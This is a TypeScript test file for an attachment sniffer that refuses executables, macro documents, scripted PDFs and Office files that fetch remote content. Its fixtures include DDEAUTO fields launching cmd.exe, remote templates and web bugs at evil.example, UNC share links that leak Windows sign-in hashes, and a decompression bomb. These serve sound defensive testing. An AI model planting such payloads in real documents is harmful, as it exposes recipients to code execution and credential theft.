/**
 * Attachments of explanations and objections: the type is told by the content,
 * never by the extension (a program renamed .pdf is refused, a PDF named
 * .exe is a PDF); programs, scripts, web pages, SVG, archives and macros are
 * refused in Chinese; files are staged on disk under a token only their own
 * user can take, nothing kept of a refused one.
 */
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readdirSync, readFileSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { deflateRawSync, deflateSync } from "node:zlib";
import { AppError } from "@kaohe/db/errors";
import {
  ACCEPTED_ATTACHMENTS,
  ATTACHMENT_STAGING_ROOT,
  attachmentName,
  attachmentStagingDir,
  discardStaged,
  MAX_ATTACHMENT_BYTES,
  MAX_ATTACHMENTS,
  removeOrphanAttachments,
  sniffAttachment,
  stageAttachment,
  takeStaged,
  zipEntryNames,
} from "@kaohe/services";
import { afterEach, describe, expect, it } from "vitest";
import { zipParts } from "../../data/test/support/xlsx-writer.ts";
import { fileBudget, MAX_ZIP_ENTRIES, officeActiveContent, pdfActiveContent } from "../../services/src/attachment-active-content.ts";
import * as sample from "./attachment-samples.ts";
import { CHINESE } from "./support.ts";

/** The refusal a call throws: its Chinese message (and the error, to look at its code and detail). */
function refusal(call: () => unknown): AppError {
  try {
    call();
  } catch (err) {
    expect(err).toBeInstanceOf(AppError);
    expect((err as AppError).zh).toMatch(CHINESE);
    return err as AppError;
  }
  throw new Error("the call should have been refused");
}

async function refusedAsync(call: Promise<unknown>): Promise<AppError> {
  const err = await call.then(
    () => new Error("the call should have been refused"),
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(AppError);
  expect((err as AppError).zh).toMatch(CHINESE);
  return err as AppError;
}

describe("sniffing: the content decides", () => {
  it.each([
    ["情况说明.pdf", sample.pdf, "pdf", "application/pdf"],
    ["现场照片.png", sample.png, "png", "image/png"],
    ["现场照片.jpg", sample.jpeg, "jpeg", "image/jpeg"],
    ["动图.gif", sample.gif, "gif", "image/gif"],
    ["照片.webp", sample.webp, "webp", "image/webp"],
    ["扫描件.bmp", sample.bmp, "bmp", "image/bmp"],
    ["扫描件.tif", sample.tiff, "tiff", "image/tiff"],
    ["IMG_0001.HEIC", sample.heic, "heic", "image/heic"],
    ["旧版说明.doc", () => sample.ole(["WordDocument", "1Table", "\u0005SummaryInformation"]), "doc", "application/msword"],
    ["旧版表格.xls", () => sample.ole(["Workbook", "\u0005SummaryInformation"]), "xls", "application/vnd.ms-excel"],
    ["Excel 95.xls", () => sample.ole(["Book"]), "xls", "application/vnd.ms-excel"],
    ["汇报.ppt", () => sample.ole(["PowerPoint Document", "Current User"]), "ppt", "application/vnd.ms-powerpoint"],
    ["WPS 文字.wps", () => sample.ole(["WordDocument"]), "doc", "application/msword"],
  ] as const)("%s is %s", (name, make, kind, mediaType) => {
    expect(sniffAttachment(make(), name)).toEqual({ kind, mediaType });
  });

  it("tells Word, Excel, PowerPoint and OFD inside a ZIP by their entries", async () => {
    expect(sniffAttachment(await sample.docx(), "说明.docx")).toEqual({
      kind: "docx",
      mediaType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    });
    expect(sniffAttachment(await sample.xlsx(), "明细.xlsx")).toEqual({
      kind: "xlsx",
      mediaType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    });
    expect(sniffAttachment(await sample.pptx(), "汇报.pptx").kind).toBe("pptx");
    expect(sniffAttachment(await sample.ofd(), "批复.ofd")).toEqual({ kind: "ofd", mediaType: "application/ofd" });
  });

  it("reads a ZIP's entries from its central directory, or from its local headers when the end is missing", async () => {
    const file = await sample.xlsx();
    expect(zipEntryNames(file)).toEqual(["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml"]);
    const cut = file.subarray(0, file.length - 22);
    expect(zipEntryNames(cut)).toEqual(["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml"]);
    expect(sniffAttachment(cut, "明细.xlsx").kind).toBe("xlsx");
  });

  it("a ZIP whose local headers carry no sizes (as streaming writers make them) is told by its central directory", async () => {
    const file = Buffer.from(await sample.docx());
    for (let at = file.indexOf("PK\u0003\u0004"); at >= 0; at = file.indexOf("PK\u0003\u0004", at + 4)) {
      file.writeUInt16LE(file.readUInt16LE(at + 6) | 8, at + 6);
      file.writeUInt32LE(0, at + 18);
    }
    expect(sniffAttachment(file, "说明.docx").kind).toBe("docx");
  });

  it("the extension does not decide: a PDF named .exe is a PDF, kept with .pdf added", () => {
    expect(sniffAttachment(sample.pdf(), "说明.exe")).toEqual({ kind: "pdf", mediaType: "application/pdf" });
    expect(attachmentName("说明.exe", "pdf")).toBe("说明.exe.pdf");
    expect(attachmentName("照片", "jpeg")).toBe("照片.jpg");
    expect(attachmentName("照片.JPEG", "jpeg")).toBe("照片.JPEG");
    expect(attachmentName("WPS 表格.et", "xls")).toBe("WPS 表格.et");
    expect(sniffAttachment(sample.png(), "照片.pdf").kind).toBe("png");
  });

  it("a program renamed .pdf is refused, saying what it is and what may be attached", () => {
    const err = refusal(() => sniffAttachment(sample.exe(), "说明.pdf"));
    expect(err.code).toBe("BAD_INPUT");
    expect(err.zh).toContain("附件“说明.pdf”的扩展名是 .pdf，内容却是 Windows 可执行程序");
    expect(err.zh).toContain("可以上传的附件：PDF");
    expect(refusal(() => sniffAttachment(sample.exe(), "setup.exe")).zh).toContain("附件“setup.exe”是 Windows 可执行程序");
  });

  it.each([
    ["an ELF program", sample.elf, "Linux 可执行程序"],
    ["a Mach-O program", sample.machO, "macOS 可执行程序"],
    ["a shell script", sample.shellScript, "脚本文件"],
    ["a web page", sample.html, "网页（HTML）"],
    ["an SVG image", sample.svg, "SVG 图片"],
    ["a RAR archive", sample.rar, "压缩包（RAR）"],
    ["plain text", sample.text, "无法识别的文件类型"],
    ["an OLE file that is no document (an installer)", () => sample.ole(["\u4840\u3f3f\u4577"]), "无法识别的 Office 旧格式文件"],
    ["a legacy document with macros", () => sample.ole(["WordDocument", "Macros", "VBA", "_VBA_PROJECT"]), "含有宏"],
  ] as const)("%s is refused", (_what, make, says) => {
    expect(refusal(() => sniffAttachment(make(), "材料.pdf")).zh).toContain(says);
  });

  it("a plain ZIP is refused (even with a word/ folder), and so is a document with macros", async () => {
    expect(refusal(() => sniffAttachment(Buffer.alloc(0), "x.pdf")).zh).toContain("空的");
    const zip = await sample.plainZip();
    expect(refusal(() => sniffAttachment(zip, "材料.zip")).zh).toContain("压缩包（ZIP）");
    expect(refusal(() => sniffAttachment(zip, "材料.docx")).zh).toContain("扩展名是 .docx，内容却是压缩包（ZIP）");
    const docm = await sample.docm();
    expect(refusal(() => sniffAttachment(docm, "说明.docx")).zh).toContain("含有宏（VBA）");
    // cut short (no central directory): told by its local headers
    expect(refusal(() => sniffAttachment(docm.subarray(0, docm.length - 22), "说明.docx")).zh).toContain("含有宏（VBA）");
    const renamed = await sample.docxRenamedVba();
    expect(refusal(() => sniffAttachment(renamed.subarray(0, renamed.indexOf("PK\u0001\u0002")), "说明.docx")).zh).toContain("含有宏（VBA）");
  });

  it.each([
    ["a PDF running JavaScript when opened (its name escaped)", sample.pdfJavaScript, "含有脚本（JavaScript）的 PDF"],
    ["a PDF's JavaScript in a compressed object stream", () => sample.pdfJavaScriptInObjectStream(), "含有脚本（JavaScript）的 PDF"],
    [
      "a PDF's JavaScript in a compressed object starting within another's string",
      () => sample.pdfJavaScriptInObjectStream(true),
      "含有脚本（JavaScript）的 PDF",
    ],
    ["a PDF's JavaScript between strings spelling stream and endstream", sample.pdfJavaScriptBetweenStrings, "含有脚本（JavaScript）的 PDF"],
    ["a PDF's JavaScript after an endstream that a stream's /Length covers", () => sample.pdfJavaScriptUnderLength(true), "含有脚本（JavaScript）的 PDF"],
    ["a PDF's JavaScript in an object within a stream's data", () => sample.pdfJavaScriptUnderLength(false), "含有脚本（JavaScript）的 PDF"],
    ["a PDF's JavaScript in an object within a string", sample.pdfJavaScriptInString, "含有脚本（JavaScript）的 PDF"],
    ["a PDF launching a program", sample.pdfLaunch, "含有启动程序的动作（Launch）的 PDF"],
    ["an XFA form (its scripts not read)", sample.pdfXfa, "含有动态表单（XFA，其中的脚本无法检查）的 PDF"],
  ] as const)("%s is refused, saying what it carries", (_what, make, says) => {
    const err = refusal(() => sniffAttachment(make(), "整改报告.pdf"));
    expect(err.zh).toBe(`附件“整改报告.pdf”是${says}，不能上传：打开时可能运行程序，请用“打印为 PDF”另存一份后上传。可以上传的附件：${ACCEPTED_ATTACHMENTS}`);
  });

  it("a PDF with an embedded file is refused, saying to attach the file on its own", () => {
    expect(refusal(() => sniffAttachment(sample.pdfEmbeddedFile(), "整改报告.pdf")).zh).toBe(
      `附件“整改报告.pdf”是含有内嵌的文件的 PDF，不能上传：打开时可能运行程序，请用“打印为 PDF”另存一份后上传，需要的文件另作附件上传。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
    );
  });

  it("a PDF whose image bytes happen to spell /JS or /Launch is a PDF", () => {
    expect(sniffAttachment(sample.pdfImageSpellingJs(), "扫描件.pdf").kind).toBe("pdf");
  });

  it("a PDF naming /JavaScript or /Launch in its strings (a link to MDN, a title, a page's text) is a PDF", () => {
    expect(sniffAttachment(sample.pdfMentioningJavaScript(), "说明.pdf").kind).toBe("pdf");
  });

  it.each(["hex", "predictor"] as const)("a PDF whose object stream is encoded otherwise than deflated (%s) is refused as unread", (how) => {
    expect(refusal(() => sniffAttachment(sample.pdfObjectStreamEncoded(how), "x.pdf")).zh).toContain(
      "是以少见方式压缩了内部对象（对象流用了 FlateDecode 以外的编码或预测器）、无法检查其中有无脚本的 PDF，不能上传：请用“打印为 PDF”另存一份后上传。",
    );
  });

  it("an OFD with a file attached to it, or with a URI action run on opening the document or a page, is refused; a link clicked is let be", async () => {
    const [attached, disguised, onOpening, onPage, onClick] = await Promise.all([
      sample.ofdWith("attachment"),
      sample.ofdWith("disguised"),
      sample.ofdWith("DO"),
      sample.ofdWith("PO"),
      sample.ofdWith("CLICK"),
    ]);
    expect(refusal(() => sniffAttachment(attached, "批复.ofd")).zh).toBe(
      `附件“批复.ofd”是带有附件（内嵌的文件）的 OFD 文件，不能上传：在 OFD 阅读器中双击附件就会打开它（可能是程序），请删去其中的附件后另存上传，需要的文件另作附件上传。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
    );
    for (const file of [onOpening, onPage]) {
      expect(refusal(() => sniffAttachment(file, "批复.ofd")).zh).toContain("是含有自动访问网址或共享文件夹的动作的 OFD 文件，不能上传");
    }
    expect(sniffAttachment(onClick, "批复.ofd").kind).toBe("ofd");
    // an e-invoice's data attached (it cannot be taken out of a signed invoice) is let be; a program said to be data is not
    expect(sniffAttachment(await sample.ofdWith("invoice"), "发票.ofd").kind).toBe("ofd");
    expect(refusal(() => sniffAttachment(disguised, "发票.ofd")).zh).toContain("是带有附件（内嵌的文件）的 OFD 文件");
  });

  it("an encrypted PDF (no password to open it) with object streams is refused: they are not decrypted, and its JavaScript run on opening may be in one", () => {
    for (const spelled of ["/Encrypt", "/En#63r#79pt"]) {
      expect(refusal(() => sniffAttachment(sample.pdfEncrypted(true, spelled), "整改报告.pdf")).zh).toBe(
        `附件“整改报告.pdf”是加密的、内部对象经过压缩的 PDF（无法检查其中有无脚本），不能上传：请上传未加密的版本（如请发文单位另行提供，或在有权限时取消 PDF 的密码或权限限制后另存），或截图、扫描后上传。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
      );
    }
    // without object streams its names are read as they are (only strings and streams are encrypted): the action is seen
    expect(refusal(() => sniffAttachment(sample.pdfEncrypted(false), "整改报告.pdf")).zh).toContain("是含有脚本（JavaScript）的 PDF");
    // an unencrypted PDF's damaged object stream is still let be (no reader opens it either)
    const damaged = "1 0 obj <</Type /ObjStm /N 1 /First 1 /Filter /FlateDecode>> stream\nxxxxx\nendstream endobj\n";
    expect(sniffAttachment(Buffer.from(`%PDF-1.5\n${damaged}trailer <</Root 1 0 R /EncryptMetadata false>>\n%%EOF\n`, "latin1"), "x.pdf").kind).toBe("pdf");
    // nor is one whose page merely shows the word (/Encrypt is a key only with a dictionary or a reference after it)
    const shown = "4 0 obj <</Length 30>> stream\n(PDF keys: /Encrypt /Filter) Tj\nendstream endobj\n";
    expect(sniffAttachment(Buffer.from(`%PDF-1.5\n${damaged}${shown}trailer <</Root 1 0 R>>\n%%EOF\n`, "latin1"), "x.pdf").kind).toBe("pdf");
  });

  it("an encrypted PDF without object streams and without actions (printing and copying restricted, as official documents are) is a PDF", () => {
    const plain = sample.pdfEncrypted(false).toString("latin1").replace("/OpenAction 3 0 R", "").replace("/S /JavaScript /JS", "/Title");
    expect(sniffAttachment(Buffer.from(plain, "latin1"), "通知.pdf").kind).toBe("pdf");
  });

  it("a PDF of more object streams than are read (each a zlib set-up: 130,000 took 16 s) or one too large to inflate is refused, not let through unread", () => {
    const stream = "1 0 obj <</Type /ObjStm /N 1 /First 1 /Filter /FlateDecode>> stream\nxxxxx\nendstream endobj\n";
    const many = Buffer.from(`%PDF-1.5\n${stream.repeat(1001)}%%EOF\n`, "latin1");
    expect(refusal(() => sniffAttachment(many, "x.pdf")).zh).toContain("结构异常（压缩的对象过多或过大）、无法检查其中有无脚本的 PDF");
    const bomb = deflateSync(Buffer.alloc(100 * 1024 * 1024));
    const large = Buffer.concat([
      Buffer.from("%PDF-1.5\n1 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n", "latin1"),
      bomb,
      Buffer.from("\nendstream\n", "latin1"),
    ]);
    expect(refusal(() => sniffAttachment(large, "x.pdf")).zh).toContain("无法检查其中有无脚本");
    expect(sniffAttachment(Buffer.from(`%PDF-1.5\n${stream.repeat(20)}%%EOF\n`, "latin1"), "x.pdf").kind).toBe("pdf");
  });

  it.each([
    [
      "a remote template (loaded, with its macros, when opened)",
      sample.docxRemoteTemplate,
      "说明.docx",
      "打开时会从网络地址“http://evil.example/t.dotm”载入模板的 Office 文档",
    ],
    [
      "a remote template written with single quotes, a prefix and a character reference",
      () =>
        sample.docxWithRelationship(
          "word/_rels/settings.xml.rels",
          `<r:Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='&#69;xternal'/>`,
        ),
      "说明.docx",
      "打开时会从网络地址“https://evil.example/t.dotm”载入模板",
    ],
    [
      "a template on another PC (a UNC path)",
      () => sample.docxTemplate("\\\\fileserver\\share\\t.dotm"),
      "说明.docx",
      "打开时会从网络地址“\\\\fileserver\\share\\t.dotm”载入模板",
    ],
    ["a template at file://host/", () => sample.docxTemplate("file://fileserver/share/t.dotm"), "说明.docx", "载入模板"],
    ["a template at file:////host/", () => sample.docxTemplate("file:////fileserver/share/t.dotm"), "说明.docx", "载入模板"],
    [
      "an object linked from the network",
      () => sample.docxLinkedObject("http://evil.example/a.xlsx"),
      "说明.docx",
      "载入链接的对象的 Office 文档，不能上传：请把链接的对象改为嵌入",
    ],
    [
      "a DDEAUTO field (w:fldSimple)",
      () => sample.docxBody(`<w:p><w:fldSimple w:instr='DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'/></w:p>`),
      "说明.docx",
      "含有 DDE 域（打开时可能运行其他程序）的 Office 文档",
    ],
    [
      "a DDE field split over runs (w:instrText)",
      () =>
        sample.docxBody(
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> D</w:instrText></w:r><w:r><w:instrText>DE "cmd" "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
      "说明.docx",
      "含有 DDE 域",
    ],
    ["a DDE link in a workbook", sample.xlsxDdeLink, "明细.xlsx", "含有 DDE 域"],
    ["a program embedded", () => sample.docxEmbedding(sample.exe()), "说明.docx", "嵌入了程序的 Office 文档"],
    [
      "a program packaged",
      () => sample.docxEmbedding(sample.olePackage("setup.exe", sample.exe())),
      "说明.docx",
      "嵌入了程序或脚本（setup.exe）的 Office 文档",
    ],
    ["a script packaged", () => sample.docxEmbedding(sample.olePackage("run.js", Buffer.from("WScript.Shell"))), "说明.docx", "嵌入了程序或脚本（run.js）"],
    [
      "a program packaged under another name",
      () => sample.docxEmbedding(sample.olePackage("说明.txt", sample.exe())),
      "说明.docx",
      "是嵌入了程序的 Office 文档",
    ],
    [
      "a program packaged, named so in UTF-16 only",
      () =>
        sample.docxEmbedding(
          sample.ole(
            ["\u0001Ole10Native"],
            Buffer.concat([
              Buffer.alloc(64),
              sample.ole10Native("a.txt", Buffer.from("x")),
              sample.ole10Native("b.txt", Buffer.from("x")).subarray(0, 4),
              Buffer.from([7, 0, 0, 0]),
              Buffer.from("cmd.bat", "utf16le"),
            ]),
          ),
        ),
      "说明.docx",
      "嵌入了程序或脚本（cmd.bat）",
    ],
    [
      "a legacy document with a program packaged",
      () => sample.ole(["WordDocument", "ObjectPool", "\u0001Ole10Native"], sample.ole10Native("a.vbs", Buffer.from("x"))),
      "说明.doc",
      "嵌入了程序或脚本（a.vbs）",
    ],
    ["an embedded document with macros", () => sample.docxEmbedding(sample.ole(["WordDocument", "Macros", "VBA"])), "说明.docx", "含有宏（VBA）"],
    ["a VBA project under another name", sample.docxRenamedVba, "说明.docx", "含有宏（VBA）的 Office 文档"],
    ["an Excel 4.0 macro sheet", sample.xlsxMacroSheet, "明细.xlsx", "含有 Excel 4.0 宏表的表格"],
    ["an ActiveX control", sample.xlsxActiveX, "明细.xlsx", "含有 ActiveX 控件的 Office 文档"],
    [
      "a legacy workbook with an Excel 4.0 macro sheet",
      () => sample.xlsWithSheets(sample.boundSheet(0, "Sheet1"), sample.boundSheet(1, "Macro1")),
      "明细.xls",
      "含有 Excel 4.0 宏表",
    ],
    ["a legacy document with a Macros storage only", () => sample.ole(["WordDocument", "Macros"]), "说明.doc", "含有宏（VBA）"],
    ["a legacy workbook with a VBA storage only", () => sample.ole(["Workbook", "VBA"]), "明细.xls", "含有宏（VBA）"],
  ] as const)("an Office document with %s is refused", async (_what, make, name, says) => {
    const file = await make();
    expect(refusal(() => sniffAttachment(file, name)).zh).toContain(says);
  });

  it("real documents are taken: links, a chart's workbook, workbooks as Excel saves them, the bulletin as Word and PDF", async () => {
    expect(sniffAttachment(await sample.docxWithLinkAndChart(), "说明.docx").kind).toBe("docx");
    // made from a 公文模板 on the PC, a table linked from a workbook on it (粘贴链接), a template beside it
    for (const target of [
      "file:///C:\\Users\\admin\\AppData\\Roaming\\Microsoft\\Templates\\公文模板.dotx",
      "C:\\模板\\公文.dotx",
      "file://localhost/C:/t.dotx",
      "公文.dotx",
    ]) {
      expect(sniffAttachment(await sample.docxTemplate(target), "说明.docx").kind, target).toBe("docx");
    }
    expect(sniffAttachment(await sample.docxLinkedObject("file:///D:\\统计\\2018年11月.xlsx"), "说明.docx").kind).toBe("docx");
    // fields that start nothing; a PDF, a picture inserted as an object (a file package), in a .docx and a .doc
    const fields = `<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "http://www.huantai.gov.cn/dde" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
    expect(sniffAttachment(await sample.docxBody(fields), "说明.docx").kind).toBe("docx");
    expect(sniffAttachment(await sample.docxEmbedding(sample.olePackage("report.pdf", sample.pdf())), "说明.docx").kind).toBe("docx");
    expect(sniffAttachment(await sample.docxEmbedding(sample.olePackage("photo.png", sample.png())), "说明.docx").kind).toBe("docx");
    expect(
      sniffAttachment(sample.ole(["WordDocument", "ObjectPool", "\u0001Ole10Native"], sample.ole10Native("report.pdf", sample.pdf())), "说明.doc").kind,
    ).toBe("doc");
    expect(sniffAttachment(sample.xlsWithSheets(sample.boundSheet(0, "Sheet1"), sample.boundSheet(2, "Chart1")), "明细.xls").kind).toBe("xls");
    const fixtures = new URL("../../data/test/fixtures/xls/", import.meta.url);
    for (const name of ["features.xls", "features.xlsx", "orders-2017-10.xls", "orders-2017-10.xlsx"]) {
      expect(sniffAttachment(readFileSync(new URL(name, fixtures)), name).kind, name).toBe(name.endsWith(".xls") ? "xls" : "xlsx");
    }
    // the bulletin as the server writes it (docs/samples)
    const samples = new URL("../../../docs/samples/", import.meta.url);
    for (const kind of ["docx", "pdf"]) expect(sniffAttachment(readFileSync(new URL(`投诉动态-2018-11.${kind}`, samples)), `投诉动态.${kind}`).kind).toBe(kind);
  });

  it("a stream name in a legacy file's text is not taken for its directory", () => {
    // "WordDocument" in the text, not at a directory entry: still no document
    expect(refusal(() => sniffAttachment(sample.ole(["Other"], "xWordDocument\0 Workbook\0"), "x.doc")).zh).toContain("无法识别的 Office 旧格式文件");
  });
});

describe("what reaches another computer when the center opens it (attack-report #1, #2): refused, what was found named", () => {
  // A share (\\host\share) opened by Word, Excel, WPS or a PDF reader on the reviewer's PC gets their Windows sign-in
  // (an NTLM hash), a web address learns who opened the file when. A remote template was refused; a linked picture,
  // a field loading a picture or text, a workbook's external link, a linked video, a PDF's GoToR/ImportData/SubmitForm
  // and a URI action run on opening were let through. A link the reader clicks (a hyperlink, a PDF's link) is let be;
  // so is what loads from a web address only when used (a picture pasted from a web page, kept in the document).
  const UNC = "\\\\fileserver\\share\\x.png";
  const LINKED_PICTURE =
    "文档中的图片只是链接到该地址、没有保存在文档里（从网页复制的内容常带有这种图片），请把图片保存到本机后用“插入 → 图片”重新插入（不选“链接到文件”），删去原来的图片，再另存上传，或另存为 PDF 后上传";
  const FIELD_PICTURE =
    "请在 Word 或 WPS 中按 Alt+F9 显示域代码，找到 INCLUDEPICTURE 域删去（从网页复制的图片常是这种域），把图片保存到本机后用“插入 → 图片”重新插入，再另存上传，或另存为 PDF 后上传";

  it("a linked picture on a share: its address and what to do said in full", async () => {
    const file = await sample.docxPicture("link", UNC);
    // the target as written in the relationship, \\fileserver\share\x.png
    expect(refusal(() => sniffAttachment(file, "说明.docx")).zh).toBe(
      `附件“说明.docx”是打开时会从网络地址“\\\\fileserver\\share\\x.png”载入图片的 Office 文档，不能上传：${LINKED_PICTURE}。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
    );
  });

  it("an INCLUDEPICTURE field on a share (\\d: the picture not kept, fetched each time it is drawn): said in full", async () => {
    // in a field's code a backslash is doubled: "\\\\fileserver\\share\\x.png" is \\fileserver\share\x.png
    const file = await sample.docxBody(sample.wordField(' INCLUDEPICTURE "\\\\\\\\fileserver\\\\share\\\\x.png" \\d '));
    expect(refusal(() => sniffAttachment(file, "说明.docx")).zh).toBe(
      `附件“说明.docx”是打开或打印时会从网络地址“\\\\fileserver\\share\\x.png”载入图片（INCLUDEPICTURE 域）的 Office 文档，不能上传：${FIELD_PICTURE}。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
    );
  });

  const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  it.each([
    [
      "a linked picture on a web server (a web bug)",
      () => sample.docxPicture("link", "http://evil.example/b.png"),
      "说明.docx",
      "从网络地址“http://evil.example/b.png”载入图片的",
    ],
    [
      "a linked picture at file://host/",
      () => sample.docxPicture("link", "file://fileserver/share/x.png"),
      "说明.docx",
      "从网络地址“file://fileserver/share/x.png”载入图片的",
    ],
    [
      // \d: the picture is not kept in the document, Word fetches it each time it draws it, on opening too
      "a picture at a web address drawn from it each time (INCLUDEPICTURE \\d, w:fldSimple)",
      () => sample.docxBody(`<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "https://img.example.com/a.jpg" \\d \\* MERGEFORMATINET '/></w:p>`),
      "说明.docx",
      "从网络地址“https://img.example.com/a.jpg”载入图片（INCLUDEPICTURE 域）的",
    ],
    [
      // pasted from a web page but the address on a share: updating the field (F9) sends the sign-in, \d or not
      "a picture pasted with its address on a share (INCLUDEPICTURE, the picture kept)",
      () => sample.docxPastedWebPicture("\\\\\\\\fileserver\\\\share\\\\x.png"),
      "说明.docx",
      "从网络地址“\\\\fileserver\\share\\x.png”载入图片（INCLUDEPICTURE 域）的",
    ],
    [
      "an INCLUDETEXT field",
      () => sample.docxBody(sample.wordField(' INCLUDETEXT "http://evil.example/x.docx" ')),
      "说明.docx",
      "从网络地址“http://evil.example/x.docx”载入文字（INCLUDETEXT 域）的",
    ],
    [
      "an INCLUDEPICTURE field split over runs, lower case, its path unquoted",
      () =>
        sample.docxBody(
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> includepic</w:instrText></w:r><w:r><w:instrText>ture //fileserver/share/x.png</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
      "说明.docx",
      "从网络地址“//fileserver/share/x.png”载入图片（INCLUDEPICTURE 域）的",
    ],
    [
      "a LINK field to a workbook on a share",
      () => sample.docxBody(sample.wordField(' LINK Excel.Sheet.12 "\\\\\\\\fileserver\\\\share\\\\统计.xlsx" "Sheet1!R1C1:R3C4" \\a \\f 4 \\h ')),
      "说明.docx",
      "从网络地址“\\\\fileserver\\share\\统计.xlsx”载入链接的对象（LINK 域）的",
    ],
    [
      "an INCLUDEPICTURE field whose path a field within it makes (its address cannot be told)",
      () =>
        sample.docxBody(
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "</w:instrText></w:r>${sample.wordField(" QUOTE 92 92 ")}<w:r><w:instrText>fileserver\\\\x.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
      "说明.docx",
      "含有 INCLUDEPICTURE 域（载入图片）而载入的地址由其中的其他域生成、无法检查的 Office 文档",
    ],
    [
      "a workbook's cells taken from a workbook on a share (an external link)",
      () => sample.xlsxExternalLink("file:///\\\\fileserver\\share\\统计.xlsx"),
      "明细.xlsx",
      "载入其他工作簿的数据的 Office 文档，不能上传：表格中的公式引用了该地址的工作簿，请断开外部链接",
    ],
    ["a presentation's linked video on a share", () => sample.pptxLinkedMedia(`${R}/video`, "\\\\fileserver\\share\\v.mp4"), "汇报.pptx", "载入视频的"],
    ["a presentation's linked sound on a share", () => sample.pptxLinkedMedia(`${R}/audio`, "file://fileserver/share/a.mp3"), "汇报.pptx", "载入音频的"],
    [
      "a presentation's linked media (Microsoft's relationship) on a share",
      () => sample.pptxLinkedMedia("http://schemas.microsoft.com/office/2007/relationships/media", "//fileserver/share/v.mp4"),
      "汇报.pptx",
      "载入音频或视频的",
    ],
    [
      // Word connects to a mail merge's data source when its main document opens; the advice says how to detach it
      "a mail merge's data source on a share",
      () =>
        sample.docxWithRelationship(
          "word/_rels/settings.xml.rels",
          `<Relationship Id="rId1" Type="${R}/mailMergeSource" Target="file:///\\\\fileserver\\share\\名单.xlsx" TargetMode="External"/>`,
        ),
      "说明.docx",
      "载入邮件合并的数据源的 Office 文档，不能上传：这是邮件合并的主文档，打开时会连接数据源，请在 Word 中选择“邮件 → 开始邮件合并 → 普通 Word 文档”断开数据源后另存上传",
    ],
    [
      "any other external relationship on a share but a hyperlink (a type not named)",
      () =>
        sample.docxWithRelationship(
          "word/_rels/document.xml.rels",
          `<Relationship Id="rId9" Type="http://schemas.example.com/relationships/vendorThing" Target="\\\\fileserver\\share\\x.dat" TargetMode="External"/>`,
        ),
      "说明.docx",
      "载入外部内容的 Office 文档，不能上传：请删去文档中链接到该地址的内容或改为嵌入后另存上传",
    ],
  ] as const)("an Office document with %s is refused", async (_what, make, name, says) => {
    const file = await make();
    expect(refusal(() => sniffAttachment(file, name)).zh).toContain(says);
  });

  it("ordinary documents are taken: hyperlinks (to a web site, to a share), embedded pictures, fields and links to files on the PC", async () => {
    for (const hyperlink of ["http://www.huantai.gov.cn/", "\\\\fileserver\\share\\通知.docx", "file://fileserver/share/通知.docx"]) {
      expect(sniffAttachment(await sample.docxPicture("embed", "media/image1.png", hyperlink), "说明.docx").kind, hyperlink).toBe("docx");
    }
    // a picture linked from the PC (Word reads it from the disk), as a template on the PC is let be
    expect(sniffAttachment(await sample.docxPicture("link", "file:///C:\\照片\\现场.jpg"), "说明.docx").kind).toBe("docx");
    const fields = [
      ' HYPERLINK "\\\\\\\\fileserver\\\\share\\\\通知.docx" ',
      ' INCLUDEPICTURE "C:\\\\照片\\\\现场.jpg" \\* MERGEFORMAT ',
      // a range "R1C1:R3C4" reads as a scheme ("R1C1:"): only a LINK's file is looked at
      ' LINK Excel.Sheet.12 "D:\\\\统计\\\\2018年11月.xlsx" "Sheet1!R1C1:R3C4" \\a \\f 4 \\h ',
      ' INCLUDETEXT "附件一.docx" 正文 ',
      " PAGE \\* MERGEFORMAT ",
    ];
    expect(sniffAttachment(await sample.docxBody(fields.map((f) => sample.wordField(f, "1")).join("")), "说明.docx").kind).toBe("docx");
    for (const target of ["file:///C:\\统计\\2018年11月.xlsx", "统计.xlsx"]) {
      expect(sniffAttachment(await sample.xlsxExternalLink(target), "明细.xlsx").kind, target).toBe("xlsx");
    }
  });

  it("what loads from a web address only when used is taken: a picture pasted from a web page or a 微信公众号 article, an online video", async () => {
    // Word keeps the picture as the field's result and fetches its address only when the fields are updated (F9)
    const pasted = await sample.docxPastedWebPicture("https://mmbiz.qpic.cn/mmbiz_png/abc/640?wx_fmt=png");
    expect(sniffAttachment(pasted, "说明.docx").kind).toBe("docx");
    // as w:fldSimple, upper or lower case
    const simple = await sample.docxBody(`<w:p><w:fldSimple w:instr=' includepicture "http://www.huantai.gov.cn/a.jpg" \\* MERGEFORMATINET '/></w:p>`);
    expect(sniffAttachment(simple, "说明.docx").kind).toBe("docx");
    // PowerPoint plays an online video when the slide's video is started, and a vendor's relationship at a web address
